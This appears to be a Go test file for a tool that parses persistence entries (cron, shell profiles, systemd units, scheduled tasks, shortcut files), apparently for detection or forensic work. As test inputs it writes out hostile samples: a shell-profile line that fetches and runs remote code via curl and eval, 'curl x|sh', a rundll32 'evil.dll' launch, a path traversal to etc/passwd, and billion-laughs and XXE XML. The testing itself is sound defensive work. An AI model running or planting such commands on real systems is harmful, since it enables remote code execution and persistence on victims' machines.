package persist

import (
	"errors"
	"strings"
	"testing"
)

func TestCronLine(t *testing.T) {
	for _, c := range []struct {
		line               string
		system, ok, bad    bool
		trigger, cmd, args string
		runAs              string
	}{
		{line: "# comment"},
		{line: "MAILTO=root"},
		{line: "SHELL = /bin/sh"},
		{line: "*/5 * * * * root /usr/bin/x -a", system: true, ok: true, trigger: "*/5 * * * *", cmd: "/usr/bin/x", args: "-a", runAs: "root"},
		{line: "0 3 * jan-mar mon,fri /bin/y %input", ok: true, trigger: "0 3 * jan-mar mon,fri", cmd: "/bin/y"},
		{line: "@reboot /opt/a 'b c'", ok: true, trigger: "@reboot", cmd: "/opt/a", args: "'b c'"},
		{line: "@weekly root FOO=1 /bin/z", system: true, ok: true, trigger: "@weekly", cmd: "/bin/z", runAs: "root"},
		{line: "@sometimes /bin/z", bad: true},
		{line: "not a cron line at all", bad: true},
		{line: "* * * *", bad: true},
		{line: "* * * * * root", system: true, bad: true},
		{line: `1 2 3 4 5 /bin/echo 50\% done`, ok: true, trigger: "1 2 3 4 5", cmd: "/bin/echo", args: `50\% done`},
	} {
		a, ok, err := cronLine(c.line, c.system)
		if ok != c.ok || (err != nil) != c.bad {
			t.Errorf("%q: ok %v err %v", c.line, ok, err)
			continue
		}
		if ok && (a.Trigger != c.trigger || a.Command != c.cmd || a.Args != c.args || a.RunAs != c.runAs) {
			t.Errorf("%q: got %q %q %q %q", c.line, a.Trigger, a.Command, a.Args, a.RunAs)
		}
	}
}

func TestSplitWindows(t *testing.T) {
	for _, c := range []struct{ in, prog, args string }{
		{`"C:\Program Files\A\a.exe" -x`, `C:\Program Files\A\a.exe`, "-x"},
		{`C:\Program Files\A\a.exe -x "y z"`, `C:\Program Files\A\a.exe`, `-x "y z"`},
		{`C:\Windows\system32\rundll32.exe C:\x\evil.dll,Start`, `C:\Windows\system32\rundll32.exe`, `C:\x\evil.dll,Start`},
		{`cmd /c start`, "cmd", "/c start"},
		{`"unterminated`, "unterminated", ""},
		{`C:\a.exe.bak\b.exe`, `C:\a.exe.bak\b.exe`, ""},
		{``, "", ""},
	} {
		p, a := splitWindows(c.in)
		if p != c.prog || a != c.args {
			t.Errorf("%q: %q %q, want %q %q", c.in, p, a, c.prog, c.args)
		}
	}
}

func TestSplitShell(t *testing.T) {
	for _, c := range []struct{ in, prog, args string }{
		{`/bin/a b c`, "/bin/a", "b c"},
		{`FOO=1 BAR="x y" nohup "/opt/my app/run" --x`, "/opt/my app/run", "--x"},
		{`exec env A=1 /bin/b`, "/bin/b", ""},
		{`cd /tmp && ./run.sh`, "./run.sh", ""},
		{`/a\ b/c`, "/a b/c", ""},
		{`curl x|sh`, "curl", "x|sh"},
	} {
		p, a := splitShell(c.in)
		if p != c.prog || a != c.args {
			t.Errorf("%q: %q %q, want %q %q", c.in, p, a, c.prog, c.args)
		}
	}
}

func TestProfileLine(t *testing.T) {
	for _, c := range []struct {
		in   string
		prog string
		ok   bool
	}{
		{"export PATH=$PATH:/x", "", false},
		{"if [ -f x ]; then", "", false},
		{`eval "$(curl -s https://x.example/a)"`, "eval", true},
		{"/usr/local/bin/agent &", "/usr/local/bin/agent", true},
		{"xterm*|rxvt*)", "", false},
		{"myfunc() {", "", false},
		{"  # /bin/not-me", "", false},
		{"PS1='x'", "", false},
	} {
		p, _, ok := profileLine(c.in)
		if ok != c.ok || p != c.prog {
			t.Errorf("%q: %q %v, want %q %v", c.in, p, ok, c.prog, c.ok)
		}
	}
}

func TestParseUnit(t *testing.T) {
	u, errs := parseUnit([]byte("[Service]\nExecStart=/a\nExecStart=\nExecStart=-/b x \\\n  y\nUser=svc\n; c\nbroken\n[Install\n[Install]\nWantedBy=a.target\n"))
	if len(u.execs) != 1 || u.execs[0].cmd != "-/b x y" || u.user != "svc" || !u.hasInstall || u.wantedBy != "a.target" {
		t.Errorf("unit: %+v", u)
	}
	if len(errs) != 2 {
		t.Errorf("errors: %v, want the key without = and the unterminated section", errs)
	}
	if p, a := execCommand("@-/bin/x argv0 y"); p != "/bin/x" || a != "argv0 y" {
		t.Errorf("exec prefixes: %q %q", p, a)
	}
}

func TestWinRel(t *testing.T) {
	for _, c := range []struct{ in, user, rel string }{
		{`%SystemRoot%\System32\svchost.exe`, "", "Windows/System32/svchost.exe"},
		{`\SystemRoot\System32\drivers\x.sys`, "", "Windows/System32/drivers/x.sys"},
		{`system32\drivers\x.sys`, "", "Windows/system32/drivers/x.sys"},
		{`\??\C:\Temp\x.sys`, "", "Temp/x.sys"},
		{`%LOCALAPPDATA%\x.exe`, "bob", "Users/bob/AppData/Local/x.exe"},
		{`%LOCALAPPDATA%\x.exe`, "", ""},
		{`\\server\share\x.exe`, "", ""},
		{`C:\..\..\etc\passwd`, "", "etc/passwd"},
		{`notepad.exe`, "", "Windows/System32/notepad.exe"},
	} {
		rel, _ := winRel(c.in, c.user)
		if rel != c.rel {
			t.Errorf("%q: %q, want %q", c.in, rel, c.rel)
		}
	}
}

func TestTaskHostile(t *testing.T) {
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><Task><Actions><Exec><Command>&lol2;</Command></Exec></Actions></Task>`
	deep := "<Task>" + strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100) + "</Task>"
	for name, doc := range map[string]string{
		"billion laughs":   laughs,
		"deep":             deep,
		"undefined entity": `<Task><Actions><Exec><Command>&xxe;</Command></Exec></Actions></Task>`,
		"not xml":          "\x00\x01",
		"odd utf16":        "\xff\xfe<\x00T",
	} {
		_, err := taskEntries([]byte(doc))
		if err == nil {
			t.Errorf("%s: accepted", name)
		}
		if name == "billion laughs" && !errors.Is(err, errDTD) {
			t.Errorf("billion laughs: %v, want the DTD refused", err)
		}
	}
	as, err := taskEntries([]byte(`<Task><Actions><ComHandler><ClassId>{A}</ClassId></ComHandler></Actions></Task>`))
	if err != nil || len(as) != 1 || as[0].Command != "COM {A}" {
		t.Errorf("COM handler: %+v %v", as, err)
	}
}

func TestLnkHostile(t *testing.T) {
	good := make([]byte, lnkHeaderBytes)
	copy(good, []byte{0x4C, 0, 0, 0})
	copy(good[4:], lnkCLSID)
	if _, err := parseLnk(good); err != nil {
		t.Errorf("bare header: %v", err)
	}
	for name, b := range map[string][]byte{
		"short":       good[:10],
		"idlist past": append(append([]byte{}, good[:20]...), append([]byte{1, 0, 0, 0}, append(good[24:], 0xff, 0xff)...)...),
		"info past":   append(append([]byte{}, good[:20]...), append([]byte{2, 0, 0, 0}, append(good[24:], 0xff, 0xff, 0, 0)...)...),
		"args past":   append(append([]byte{}, good[:20]...), append([]byte{0x20, 0, 0, 0}, append(good[24:], 0xff, 0x7f)...)...),
		"bad clsid":   append([]byte{0x4C, 0, 0, 0}, make([]byte, 80)...),
	} {
		if _, err := parseLnk(b); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
